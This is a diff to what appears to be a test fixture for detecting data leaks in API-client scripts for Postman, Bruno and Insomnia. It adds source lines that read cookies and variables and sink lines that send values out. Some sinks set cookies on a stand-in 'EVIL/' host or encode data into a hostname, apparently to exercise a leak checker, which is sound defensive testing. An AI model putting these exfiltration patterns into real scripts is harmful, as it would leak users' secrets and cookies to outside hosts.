@@ -45,8 +45,14 @@ const sources: readonly ScriptLine[] = [
     'bru.getCollectionVar("c0")',
     'environment.v0',
     'pm.globals.replaceIn("{{v0}}")',
+    'insomnia.baseEnvironment.get("v1")',
+    'pm.cookies.toString()',
+    'JSON.stringify(bru.cookies.all())',
+    'pm.request.url.query.toString()',
   ),
   ...named({
+    'jar.getAll': 'JSON.stringify(await pm.cookies.jar().getAll("EVIL/"))',
+    'jar.getCookie': '(await bru.cookies.jar().getCookie("GOOD/", "k"))?.value',
     'tool.jwt.sign': 'tool.jwt.sign({ x: tool.getVar("v0") ?? "" }, { alg: "HS256", key: "{{$secret.K}}" })',
     'axios.get, response': `(await axios.get("GOOD/", { params: { u: ${text('tool.getVar("v1")')} } })).data.u`,
     'require("axios").post, response': `(await require("axios").post("GOOD/", ${text('tool.getVar("c1")')})).data.b`,
@@ -68,6 +74,8 @@ const ofResponse = lines(
   'responseBody',
   'res.getHeader("X-Back")',
   'JSON.stringify(res.getBody())',
+  'res.getDataBuffer().toString()',
+  'pm.response.dataURI()',
 );
 
 /** Changes of a text. */
@@ -103,9 +111,16 @@ const sinks: readonly ScriptLine[] = [
     'pm.visualizer.set(x, { x })',
     'bru.setCollectionVar("c1", { x })',
     'environment.v1 = x',
+    'insomnia.environment.set("v0", x)',
+    'globalThis.res?.setBody({ x })',
     'console.error(new Error(x), pm.request)',
   ),
   ...named({
+    'pm.cookies.jar().set': 'await pm.cookies.jar().set("EVIL/", "k", encodeURIComponent(x))',
+    'jar.setCookie, a piece': 'await bru.cookies.jar().setCookie("GOOD/", { key: "g", value: encodeURIComponent(x).slice(0, 2) })',
+    'jar.setCookie, a name': 'await bru.cookies.jar().setCookie("GOOD/", "n" + x.replace(/\\W/g, "-"), "1")',
+    'jar.setCookie, many pieces':
+      'for (const [i, c] of [...x].slice(0, 20).entries()) await bru.cookies.jar().setCookie("EVIL/", "c" + i, encodeURIComponent(c))',
     'tool.jwt.sign, set': 'tool.setVar("v1", tool.jwt.sign({ x }, { alg: "HS256", key: "{{$secret.K}}" }))',
     'axios.get, the host': 'await axios.get("http://" + encodeURIComponent(x) + ".invalid/").catch((e) => console.log(String(e)))',
     'pm.sendRequest, the name of a header':
